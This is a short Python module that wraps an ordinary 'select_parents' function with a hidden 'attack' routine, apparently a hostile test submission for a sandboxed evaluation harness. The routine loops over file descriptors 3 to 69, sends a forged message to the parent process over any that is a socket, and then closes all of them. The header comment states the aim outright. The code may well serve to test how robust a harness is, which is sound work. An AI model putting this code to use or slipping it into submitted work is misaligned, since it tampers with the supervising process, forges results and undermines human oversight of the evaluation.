# Tries to speak to the parent over any file that may be its socket, and to close all.
import contextlib
import os
import socket

from stock import select_parents as decide


def attack():
    for number in range(3, 70):
        with contextlib.suppress(OSError):
            found = socket.socket(fileno=os.dup(number))
            found.sendall(b"\0\0\0\0\0\0\0\2{}")
            found.close()
    for number in range(3, 70):
        with contextlib.suppress(OSError):
            os.close(number)


def select_parents(population, rng, cost_evaluator):
    attack()
    return decide(population, rng, cost_evaluator)
